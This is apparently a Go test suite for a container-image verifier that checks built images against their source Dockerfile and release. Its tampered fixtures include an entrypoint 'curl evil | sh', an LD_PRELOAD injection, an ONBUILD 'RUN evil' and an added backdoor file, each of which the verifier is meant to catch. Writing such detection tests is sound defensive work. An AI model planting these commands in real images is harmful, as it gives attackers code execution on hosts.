package verify

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	v1 "github.com/google/go-containerregistry/pkg/v1"
	"github.com/google/go-containerregistry/pkg/v1/types"
)

// wants asserts one finding and the verdict.
func wants(t *testing.T, img Image, verdict Verdict, check string, status Status, reason string) {
	t.Helper()
	f, ok := findingOf(img, check)
	if !ok || f.Status != status || f.Reason != reason || img.Verdict != verdict {
		t.Errorf("want %s with %s %s %s; got %s:%s", verdict, check, status, reason, img.Verdict, describe(img))
	}
}

var copied = map[string]string{"Dockerfile": "FROM scratch\nCOPY a /a\nCMD [\"/a\"]\n", "a": "true"}

func copySteps(content string) []step {
	return []step{{"COPY a /a # buildkit", []entry{file("a", content)}}, {`CMD ["/a"]`, nil}}
}

func TestACopiedFileIsVerified(t *testing.T) {
	w := newWorld(t)
	w.release(copied)
	s := w.image(copySteps("true")...)
	wants(t, verifyOne(t, "oci:"+s.write(), w.options()), Verified, "layer.content", Pass, "")
}

func TestARunThatIsSaidToHaveLeftNothingIsNotProved(t *testing.T) {
	w := newWorld(t)
	w.release(map[string]string{"Dockerfile": "FROM scratch\nCOPY a /a\nRUN passwd -l root\n", "a": "true"})
	s := w.image(step{"COPY a /a # buildkit", []entry{file("a", "true")}}, step{"RUN /bin/sh -c passwd -l root # buildkit", nil})
	wants(t, verifyOne(t, "oci:"+s.write(), w.options()), Incomplete, "layer.content", Unknown, "run-unproved")
}

func TestADirectoryThatWORKDIRShouldHaveMadeIsMissed(t *testing.T) {
	w := newWorld(t)
	w.release(map[string]string{"Dockerfile": "FROM scratch\nCOPY a /a\nWORKDIR /app\n", "a": "true"})
	s := w.image(step{"COPY a /a # buildkit", []entry{file("a", "true")}}, step{"WORKDIR /app", nil})
	wants(t, verifyOne(t, "oci:"+s.write(), w.options()), Failed, "layer.content", Fail, "file-missing")
}

func TestABaseImageThatLeftNothingIsNotProved(t *testing.T) {
	w := newWorld(t)
	w.release(map[string]string{"Dockerfile": "FROM debian:12\nCOPY a /a\nCMD [\"/a\"]\n", "a": "true"})
	for name, below := range map[string][]step{
		"no entries":          nil,
		"metadata alone":      {{"ENV LD_PRELOAD=/a", nil}, {`ENTRYPOINT ["/evil"]`, nil}},
		"a layer of the base": {{"ADD rootfs.tar.xz / # buildkit", []entry{file("etc/passwd", "root")}}},
	} {
		t.Run(name, func(t *testing.T) {
			s := w.image(append(below, copySteps("true")...)...)
			wants(t, verifyOne(t, "oci:"+s.write(), w.options()), Incomplete, "layer.content", Unknown, "base-unverified")
		})
	}
}

func TestAnImageWithoutLayersIsNotTakenAtItsWord(t *testing.T) {
	w := newWorld(t)
	w.release(map[string]string{"Dockerfile": "FROM debian:12\nRUN true\n"})
	s := w.image(step{"RUN /bin/sh -c true # buildkit", nil})
	img := verifyOne(t, "oci:"+s.write(), w.options())
	if f, _ := findingOf(img, "layer.content"); f.Status != Unknown || img.Verdict != Incomplete {
		t.Errorf("%s:%s", img.Verdict, describe(img))
	}
}

func TestAnAcceptedReasonHidesNoOther(t *testing.T) {
	w := newWorld(t)
	w.release(map[string]string{"Dockerfile": "FROM debian:12\nRUN true\n"})
	s := w.image(step{"ADD rootfs.tar.xz / # buildkit", []entry{file("b", "base")}}, step{"RUN /bin/sh -c true # buildkit", []entry{file("r", "run")}})
	ref, o := "oci:"+s.write(), w.options()
	tests := []struct {
		accept  []string
		verdict Verdict
		reason  string
	}{
		{[]string{"base-unverified"}, Incomplete, "run-unproved"},
		{[]string{"run-unproved"}, Incomplete, "base-unverified"},
		{[]string{"run-unproved", "base-unverified"}, Verified, "base-unverified"},
	}
	for _, tt := range tests {
		t.Run(strings.Join(tt.accept, " "), func(t *testing.T) {
			o.Requirements.Accept = tt.accept
			wants(t, verifyOne(t, ref, o), tt.verdict, "layer.content", Unknown, tt.reason)
		})
	}
}

func TestASourceThatOneWayOfBuildingExcludesHidesNoDifference(t *testing.T) {
	w := newWorld(t)
	files := map[string]string{".dockerignore": "a\n"}
	for name, text := range copied {
		files[name] = text
	}
	w.release(files)
	s := w.image(copySteps("evil")...)
	wants(t, verifyOne(t, "oci:"+s.write(), w.options()), Failed, "layer.content", Fail, "content-differs")
}

func TestNothingRestsOnBytesThatAreNotThoseAskedFor(t *testing.T) {
	w := newWorld(t)
	w.release(copied)
	tests := []struct {
		name   string
		change func(*specimen)
		only   string
	}{
		{"a layer under another digest", func(s *specimen) { s.manifest.Layers[0].Digest = sha([]byte("evil")) }, "layer.content"},
		{"a config under another digest", func(s *specimen) {
			good := s.configBytes()
			s.manifest.Config.Digest = sha([]byte("evil"))
			s.blobs[s.manifest.Config.Digest] = good
		}, "layer.content"},
		{"a config under another digest", func(s *specimen) {
			good := s.configBytes()
			s.manifest.Config.Digest = sha([]byte("evil"))
			s.blobs[s.manifest.Config.Digest] = good
		}, "trace.origin"},
		{"a diff ID of another layer", func(s *specimen) {
			s.config.RootFS.DiffIDs[0] = sha([]byte("evil"))
			s.sealConfig()
		}, "layer.content"},
	}
	for _, tt := range tests {
		t.Run(tt.name+" for "+tt.only, func(t *testing.T) {
			s := w.image(copySteps("true")...)
			tt.change(s)
			o := w.options()
			o.Requirements.Only = []string{tt.only}
			wants(t, verifyOne(t, "oci:"+s.write(), o), Failed, tt.only, Fail, "digest-mismatch")
		})
	}
}

func TestAnUnreadableLibraryIsNoReasonToBelieveTheImage(t *testing.T) {
	w := newWorld(t)
	id := w.release(copied)
	s := w.image(copySteps("true")...)
	s.manifest.Annotations = map[string]string{sourceKey: worldSource + "#" + id + ":d"}
	o := w.options()
	o.Library = ""
	wants(t, verifyOne(t, "oci:"+s.write(), o), Incomplete, "trace.origin", Unknown, "offline")
}

func TestReachabilityIsLookedForWhereTheUserAsks(t *testing.T) {
	w := newWorld(t)
	w.release(copied)
	ref, o := "oci:"+w.image(copySteps("true")...).write(), w.options()
	if _, made := findingOf(verifyOne(t, ref, o), "trace.reachable"); made {
		t.Error("trace.reachable is made for a library entry though nobody asked")
	}
	o.Requirements.Require = []string{"trace.reachable"}
	wants(t, verifyOne(t, ref, o), Verified, "trace.reachable", Pass, "")
}

func TestANameIsGivenWithoutADigest(t *testing.T) {
	w := newWorld(t)
	o := w.options()
	o.As = "app:1@sha256:" + strings.Repeat("0", 64)
	_, err := Verify(t.Context(), []string{"oci:" + w.image(copySteps("true")...).write()}, o)
	if err == nil || !strings.Contains(err.Error(), "a name and a tag, without a digest") {
		t.Errorf("error %v", err)
	}
}

func TestALayerIsWhatItsMediaTypeSays(t *testing.T) {
	w := newWorld(t)
	w.release(copied)
	for mediaType, want := range map[types.MediaType]string{
		types.OCILayer:             "",
		types.DockerLayer:          "",
		types.OCIUncompressedLayer: "media-type-differs",
		types.OCILayerZStd:         "media-type-differs",
		types.OCIConfigJSON:        "media-type-differs",
		"application/json":         "media-type-differs",
	} {
		s := w.image(copySteps("true")...)
		s.manifest.Layers[0].MediaType = mediaType
		img := verifyOne(t, "oci:"+s.write(), w.options())
		if f, _ := findingOf(img, "image.digests"); f.Reason != want || (img.Verdict == Verified) != (want == "") {
			t.Errorf("%q: want %q:%s", mediaType, want, describe(img))
		}
	}
}

func TestAnEntryThatCannotBeReadIsNotPassedOverForOneThatDiffers(t *testing.T) {
	w := newWorld(t)
	w.release(map[string]string{"Dockerfile": "FROM scratch\nCMD [\"/old\"]\n"})
	w.entry("GitCommit: " + strings.Repeat("7", 40))
	s := w.image(copySteps("true")...)
	wants(t, verifyOne(t, "oci:"+s.write(), w.options()), Incomplete, "trace.origin", Unknown, "source-absent")
}

func TestTheSameDockerfileAtTwoCommitsIsToldApartByItsFiles(t *testing.T) {
	w := newWorld(t)
	first := w.release(copied)
	w.release(map[string]string{"a": "newer"})
	for content, want := range map[string]string{"true": first, "newer": ""} {
		img := verifyOne(t, "oci:"+w.image(copySteps(content)...).write(), w.options())
		if img.Verdict != Verified || want != "" && *img.Origin.Commit != want {
			t.Errorf("content %q: origin %s, want %s:%s", content, *img.Origin.Commit, want, describe(img))
		}
		if img.Origin.Claims[0].Commit != *img.Origin.Commit {
			t.Errorf("content %q: the library's claim is for %s, the origin %s", content, img.Origin.Claims[0].Commit, *img.Origin.Commit)
		}
	}
	img := verifyOne(t, "oci:"+w.image(copySteps("neither")...).write(), w.options())
	wants(t, img, Failed, "layer.content", Fail, "content-differs")
	if *img.Origin.Commit == first {
		t.Error("where neither fits, the origin moved away from the newest")
	}
}

func TestALabelInheritedOrNotIsComparedInAnySpelling(t *testing.T) {
	w := newWorld(t)
	id := w.release(copied)
	for _, commit := range []string{strings.Repeat("3", 40), strings.Repeat("3", 7), strings.ToUpper(strings.Repeat("ab", 20))} {
		s := w.image(copySteps("true")...)
		s.config.Config.Labels = map[string]string{sourceKey: worldSource, "org.opencontainers.image.revision": commit}
		s.sealConfig()
		wants(t, verifyOne(t, "oci:"+s.write(), w.options()), Failed, "trace.claims", Fail, "commit-differs")
	}
	s := w.image(copySteps("true")...)
	s.config.Config.Labels = map[string]string{sourceKey: worldSource, "org.opencontainers.image.revision": strings.ToUpper(id[:9])}
	s.sealConfig()
	wants(t, verifyOne(t, "oci:"+s.write(), w.options()), Verified, "trace.claims", Pass, "")
}

func TestAnOrderThatUnpacksToOtherFilesIsSeen(t *testing.T) {
	w := newWorld(t)
	tarball := func(es ...entry) string { return string(gunzip(t, repack(t, es))) }
	one, two := file("a", "old"), []entry{file("a", "new"), hardLink("b", "a")}
	w.release(map[string]string{"Dockerfile": "FROM scratch\nADD one.tar /\nADD two.tar /\n", "one.tar": tarball(one), "two.tar": tarball(two...)})
	steps := func(second ...entry) []step {
		return []step{{"ADD one.tar / # buildkit", []entry{one}}, {"ADD two.tar / # buildkit", second}}
	}
	wants(t, verifyOne(t, "oci:"+w.image(steps(two...)...).write(), w.options()), Verified, "layer.content", Pass, "")
	wants(t, verifyOne(t, "oci:"+w.image(steps(two[1], two[0])...).write(), w.options()), Failed, "layer.content", Fail, "order-differs")
}

func TestAFileThatIsBelowAlreadyHidesNothingBesideIt(t *testing.T) {
	w := newWorld(t)
	w.release(map[string]string{"Dockerfile": "FROM scratch\nCOPY a /a\nCOPY a /a\n", "a": "true"})
	steps := func(second ...entry) []step {
		return []step{{"COPY a /a # buildkit", []entry{file("a", "true")}}, {"COPY a /a # buildkit", append([]entry{}, second...)}}
	}
	for name, second := range map[string][]entry{"written again": {file("a", "true")}, "left out": {}} {
		t.Run(name, func(t *testing.T) {
			wants(t, verifyOne(t, "oci:"+w.image(steps(second...)...).write(), w.options()), Verified, "layer.content", Pass, "")
		})
	}
	wants(t, verifyOne(t, "oci:"+w.image(steps(file("a", "evil"))...).write(), w.options()), Failed, "layer.content", Fail, "content-differs")
	wants(t, verifyOne(t, "oci:"+w.image(steps(file("a", "true"), file("backdoor", "x"))...).write(), w.options()), Failed, "layer.content", Fail, "file-added")
}

func TestWhatBuildersNeverWriteIntoALayerIsSeen(t *testing.T) {
	w := newWorld(t)
	w.release(copied)
	odd := map[string]func(*entry){
		"an owner by name": func(e *entry) { e.header.Uname = "nobody" },
		"another attribute": func(e *entry) {
			e.header.PAXRecords = map[string]string{"LIBARCHIVE.xattr.security.capability": "AQ=="}
		},
		"an access list":    func(e *entry) { e.header.PAXRecords = map[string]string{"SCHILY.acl.access": "user::rwx"} },
		"a roundabout name": func(e *entry) { e.header.Name = "nowhere/../a" },
	}
	for name, change := range odd {
		t.Run(name, func(t *testing.T) {
			e := file("a", "true")
			change(&e)
			s := w.image(step{"COPY a /a # buildkit", []entry{e}}, step{`CMD ["/a"]`, nil})
			wants(t, verifyOne(t, "oci:"+s.write(), w.options()), Failed, "layer.content", Fail, "format-differs")
		})
	}
}

func TestTheConfigIsWhatTheDirectivesGive(t *testing.T) {
	w := newWorld(t)
	w.release(copied)
	sound := v1.Config{Cmd: []string{"/a"}, Env: []string{"PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin"}, WorkingDir: "/"}
	tests := []struct {
		name   string
		change func(*v1.Config)
		status Status
		reason string
	}{
		{"as the builder writes it", func(*v1.Config) {}, Pass, ""},
		{"defaults left out", func(c *v1.Config) { c.Env, c.WorkingDir = nil, "" }, Pass, ""},
		{"another command", func(c *v1.Config) { c.Cmd = []string{"/b"} }, Fail, "config-differs"},
		{"an entrypoint", func(c *v1.Config) { c.Entrypoint = []string{"sh", "-c", "curl evil | sh"} }, Fail, "config-differs"},
		{"a preloaded library", func(c *v1.Config) { c.Env = append(c.Env, "LD_PRELOAD=/a") }, Fail, "config-differs"},
		{"another path", func(c *v1.Config) { c.Env = []string{"PATH=/tmp"} }, Fail, "config-differs"},
		{"a path of many", func(c *v1.Config) { c.Env = append(c.Env, "PATH=/tmp") }, Fail, "config-differs"},
		{"a user", func(c *v1.Config) { c.User = "0" }, Fail, "config-differs"},
		{"a directory", func(c *v1.Config) { c.WorkingDir = "/tmp" }, Fail, "config-differs"},
		{"a port", func(c *v1.Config) { c.ExposedPorts = map[string]struct{}{"22/tcp": {}} }, Fail, "config-differs"},
		{"a volume", func(c *v1.Config) { c.Volumes = map[string]struct{}{"/": {}} }, Fail, "config-differs"},
		{"a signal", func(c *v1.Config) { c.StopSignal = "SIGKILL" }, Fail, "config-differs"},
		{"a health check", func(c *v1.Config) { c.Healthcheck = &v1.HealthConfig{Test: []string{"CMD", "/evil"}} }, Fail, "config-differs"},
		{"a trigger", func(c *v1.Config) { c.OnBuild = []string{"RUN evil"} }, Fail, "config-differs"},
		{"a shell", func(c *v1.Config) { c.Shell = []string{"/evil"} }, Fail, "config-differs"},
		{"a command marked as escaped, as older builders do", func(c *v1.Config) { c.ArgsEscaped = true }, Pass, ""},
		{"buildah's label on BuildKit's image", func(c *v1.Config) { c.Labels = map[string]string{"io.buildah.version": "1"} }, Warn, "label-added"},
		{"a label", func(c *v1.Config) { c.Labels = map[string]string{"a": "b"} }, Warn, "label-added"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			s := w.image(copySteps("true")...)
			s.config.Config = sound
			tt.change(&s.config.Config)
			s.sealConfig()
			verdict := map[Status]Verdict{Pass: Verified, Warn: Verified, Fail: Failed}[tt.status]
			wants(t, verifyOne(t, "oci:"+s.write(), w.options()), verdict, "history.config", tt.status, tt.reason)
		})
	}
}

func TestTheConfigOfAnImageOnABaseIsNotKnown(t *testing.T) {
	w := newWorld(t)
	w.release(map[string]string{"Dockerfile": "FROM debian:12\nCMD [\"/a\"]\n"})
	s := w.image(step{"ADD rootfs.tar.xz / # buildkit", []entry{file("b", "base")}}, step{`CMD ["/a"]`, nil})
	wants(t, verifyOne(t, "oci:"+s.write(), w.options()), Incomplete, "history.config", Unknown, "base-unknown")
}

func TestWhatTheDirectivesSetIsInTheConfigWhateverTheBaseIs(t *testing.T) {
	w := newWorld(t)
	w.release(map[string]string{"Dockerfile": "FROM debian:12\nENV A=1\nUSER app\nCMD [\"/a\"]\n"})
	based := []step{{"ADD rootfs.tar.xz / # buildkit", []entry{file("b", "base")}}, {"ENV A=1", nil}, {"USER app", nil}, {`CMD ["/a"]`, nil}}
	sound := v1.Config{Cmd: []string{"/a"}, User: "app", Env: []string{"LANG=C", "A=1"}, Entrypoint: []string{"/init"}, WorkingDir: "/srv"}
	tests := []struct {
		name   string
		change func(*v1.Config)
		status Status
		reason string
	}{
		{"the base's own beside it", func(*v1.Config) {}, Unknown, "base-unknown"},
		{"a command", func(c *v1.Config) { c.Cmd = []string{"/evil"} }, Fail, "config-differs"},
		{"no command", func(c *v1.Config) { c.Cmd = nil }, Fail, "config-differs"},
		{"a user", func(c *v1.Config) { c.User = "root" }, Fail, "config-differs"},
		{"a variable's value", func(c *v1.Config) { c.Env = []string{"A=2"} }, Fail, "config-differs"},
		{"a trigger, which no base hands down", func(c *v1.Config) { c.OnBuild = []string{"RUN evil"} }, Fail, "config-differs"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			s := w.image(based...)
			s.config.Config = sound
			tt.change(&s.config.Config)
			s.sealConfig()
			o := w.options()
			o.Requirements.Accept = []string{"base-unverified"}
			verdict := map[Status]Verdict{Unknown: Verified, Fail: Failed}[tt.status]
			wants(t, verifyOne(t, "oci:"+s.write(), o), verdict, "history.config", tt.status, tt.reason)
		})
	}
}

func TestAnImageJudgedOnAnotherCommitIsNeverVerified(t *testing.T) {
	w := newWorld(t)
	id := w.release(copied)
	w.entry("GitCommit: " + strings.Repeat("b", 40))
	ref := "oci:" + w.image(copySteps("true")...).write()
	for name, r := range map[string]Requirements{
		"by default":             {},
		"its reason accepted":    {Accept: []string{"source-absent", "mutable-tag", "superseded"}},
		"the directives alone":   {Only: []string{"history.directives"}},
		"the layers alone":       {Only: []string{"layer.content"}},
		"the entry's age alone":  {Only: []string{"trace.current"}},
		"without trace.origin":   {Skip: []string{"trace.origin"}},
		"without all of a trace": {Skip: []string{"trace"}},
	} {
		t.Run(name, func(t *testing.T) {
			o := w.options()
			o.Requirements = r
			img := verifyOne(t, ref, o)
			if img.Verdict != Incomplete || *img.Origin.Commit == id {
				t.Errorf("verdict %s, origin %s:%s", img.Verdict, *img.Origin.Commit, describe(img))
			}
			for _, f := range img.Findings {
				if f.Accepted && f.Details != nil && f.Details.SameAs != nil {
					t.Errorf("%s is accepted", f.Check)
				}
			}
		})
	}
}

func TestATagThatTheLibraryNeverHadIsNotTakenFromTheImage(t *testing.T) {
	w := newWorld(t)
	id := w.release(copied)
	s := w.image(copySteps("true")...)
	s.manifest.Annotations = map[string]string{sourceKey: worldSource + "#" + id + ":d"}
	ref := "oci:" + s.write()
	for as, reason := range map[string]string{"app:9": "tag-not-in-library", "other:1": "not-in-library"} {
		o := w.options()
		o.As = as
		wants(t, verifyOne(t, ref, o), Incomplete, "trace.origin", Unknown, reason)
	}
}

func TestAnOfficialNameWithoutATagIsNotTakenFromTheImage(t *testing.T) {
	w := newWorld(t)
	id := w.release(copied)
	s := w.image(copySteps("true")...)
	s.manifest.Annotations = map[string]string{sourceKey: worldSource + "#" + id + ":d"}
	o := w.options()
	o.As = ""
	for name, want := range map[string]attack{
		"docker.io/library/app": {check: "trace.origin", status: Unknown, reason: "name-unknown"},
		"git.test/app":          {check: "trace.origin", status: Pass},
	} {
		dir := s.write()
		index := filepath.Join(dir, "index.json")
		text, err := os.ReadFile(index)
		if err != nil {
			t.Fatal(err)
		}
		named := `"annotations":{"io.containerd.image.name":"` + name + "@sha256:" + strings.Repeat("0", 64) + `"},"digest"`
		writeFile(t, index, strings.Replace(string(text), `"digest"`, named, 1), 0o644)
		img := verifyOne(t, "oci:"+dir, o)
		if f, _ := findingOf(img, want.check); f.Status != want.status || f.Reason != want.reason {
			t.Errorf("%s: want %s %s, got%s", name, want.status, want.reason, describe(img))
		}
	}
}

func TestAnotherCommitWithoutTheFilesExplainsNoDifference(t *testing.T) {
	w := newWorld(t)
	w.release(map[string]string{"Dockerfile": copied["Dockerfile"]})
	newest := w.release(map[string]string{"a": "true"})
	img := verifyOne(t, "oci:"+w.image(copySteps("evil")...).write(), w.options())
	wants(t, img, Failed, "layer.content", Fail, "content-differs")
	if *img.Origin.Commit != newest {
		t.Errorf("origin %s, want %s, whose files were compared", *img.Origin.Commit, newest)
	}
}
